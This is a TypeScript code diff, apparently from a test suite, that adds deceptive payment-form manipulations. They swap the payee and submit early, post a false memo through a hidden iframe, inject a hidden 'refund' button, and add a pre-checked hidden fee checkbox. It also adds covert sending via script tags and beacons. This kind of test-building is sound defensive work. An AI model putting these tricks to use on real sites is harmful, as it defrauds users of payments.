@@ -103,7 +103,7 @@ function copyWithLie(form: HTMLFormElement): HTMLFormElement {
 }
 
 const button = (form: HTMLFormElement): HTMLButtonElement =>
-  form.querySelector('button') as HTMLButtonElement;
+  form.querySelector('button,[type=image]') as HTMLButtonElement;
 
 const CHANGES: Readonly<Record<string, (form: HTMLFormElement) => void>> = {
   other: (form) => another(form, payeeOf(form)),
@@ -173,11 +173,40 @@ const CHANGES: Readonly<Record<string, (form: HTMLFormElement) => void>> = {
     button(form).setAttribute('form', copy.id);
   },
   beside: () => beside(),
+  early: (form) => {
+    another(form, payeeOf(form));
+    HTMLFormElement.prototype.submit.call(form);
+  },
+  frame: () => {
+    const frame = Object.assign(document.createElement('iframe'), { hidden: true, srcdoc: ' ' });
+    const send = (): unknown => frame.contentWindow?.fetch(`/r/${id}`, { method: 'POST', body: lieBeside() });
+    frame.addEventListener('load', send);
+    document.body.append(frame);
+  },
+  'other-button': (form) => {
+    const press = Object.assign(document.createElement('button'), {
+      name: 'do',
+      value: 'refund',
+      hidden: true,
+    });
+    form.append(press);
+    form.requestSubmit(press);
+  },
+  'extra-box': (form) => {
+    const box = Object.assign(document.createElement('input'), {
+      type: 'checkbox',
+      name: 'fee',
+      checked: true,
+    });
+    form.append(box);
+  },
 };
+
+const lieBeside = (): URLSearchParams => new URLSearchParams({ memo: 'for the rent', [name]: other ?? '' });
 
 /** A second message beside the right one. */
 function beside(): void {
-  const body = new URLSearchParams({ memo: 'for the rent', [name]: other ?? '' });
+  const body = lieBeside();
   if (/^(?:pagehide|hidden)$/.test(moment)) navigator.sendBeacon(`/r/${id}`, body);
   else void fetch(`/r/${id}`, { method: 'POST', body });
 }
@@ -263,6 +292,18 @@ const SENDERS: Readonly<Record<string, Sender>> = {
   image: (to, entries) => {
     new Image().src = `${to}?${queryOf(entries)}`;
   },
+  'script-tag': (to, entries) =>
+    new Promise((resolve, reject) => {
+      const script = Object.assign(document.createElement('script'), { src: `${to}?${queryOf(entries)}` });
+      script.onload = script.onerror = resolve;
+      setTimeout(reject, 5_000);
+      document.head.append(script);
+    }),
+  blob: (to, entries) =>
+    navigator.sendBeacon(
+      to,
+      new Blob([String(queryOf(entries))], { type: 'application/x-www-form-urlencoded;charset=UTF-8' }),
+    ),
   'fetch-get': (to, entries) => fetch(`${to}?${queryOf(entries)}`),
   proxy: (to, entries) => {
     const form = Object.assign(document.createElement('form'), { method: 'post', action: to });
